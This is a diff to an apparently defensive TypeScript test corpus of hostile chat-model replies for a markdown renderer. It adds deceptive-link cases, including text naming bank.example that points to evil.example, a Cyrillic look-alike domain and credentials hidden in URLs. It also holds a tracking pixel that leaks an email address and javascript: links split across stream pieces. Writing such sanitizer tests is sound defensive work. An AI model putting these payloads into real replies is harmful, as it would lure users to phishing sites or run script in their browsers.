@@ -13,9 +13,12 @@ export interface HostileReply {
   /** The reply as it arrives, piece by piece; by default the provider streams it word by word. */
   pieces?: string[];
   source: string;
+  /** For a link that would lie about where it goes: the text the reply shows instead, with no link in it. */
+  shows?: string;
 }
 
 const whole = (name: string, source: string): HostileReply => ({ name, source });
+const lying = (name: string, source: string, shows: string): HostileReply => ({ name, source, shows });
 const streamed = (name: string, pieces: string[]): HostileReply => ({ name, pieces, source: pieces.join('') });
 
 export const XSS_CORPUS: HostileReply[] = [
@@ -123,9 +126,29 @@ export const XSS_CORPUS: HostileReply[] = [
   whole('tracking image', '![pixel](https://tracker.example/p.gif?user=visitor@example.com)'),
   whole('tracking image by reference', '![pixel][t]\n\n[t]: https://tracker.example/p.gif?u=1'),
   whole('relative image', '![local](/api/llm/v1/chat/completions)'),
-  whole('credentials in a link', '[bank](https://user:pass@evil.example)'),
+  lying('credentials in a link', '[bank](https://user:pass@evil.example)', 'bank (https://user:pass@evil.example/)'),
   whole('link to a relative path', '[home](/admin)'),
   whole('fragment link', '[top](#root)'),
+  // Links whose text names another host than they go to, or whose URL hides a host behind userinfo
+  lying(
+    'URL text for another host',
+    '[https://bank.example](https://evil.example)',
+    'https://bank.example (https://evil.example/)',
+  ),
+  lying('domain text for another host', '[bank.example](https://evil.example)', 'bank.example (https://evil.example/)'),
+  lying(
+    'domain and path text for another host',
+    'Log in at [www.bank.example/login](https://evil.example/login).',
+    'Log in at www.bank.example/login (https://evil.example/login).',
+  ),
+  // The destination has a Cyrillic "а": shown as the parser spells it, in punycode, the look-alike gives itself away.
+  lying(
+    'look-alike IDN destination',
+    '[bank.example](https://bаnk.example)',
+    'bank.example (https://xn--bnk-6cd.example/)',
+  ),
+  lying('backslash before userinfo', 'http://good.example\\@evil.example', 'http://good.example\\@evil.example'),
+  lying('userinfo in a bare URL', 'https://user:pass@evil.example/', 'https://user:pass@evil.example/'),
   // Tricks that work only part-way through a stream
   streamed('javascript: completed by a later piece', ['[click me](javas', 'cript:__xss())']),
   streamed('entity completed by a later piece', ['[a](&#106;', 'avascript:__xss())']),
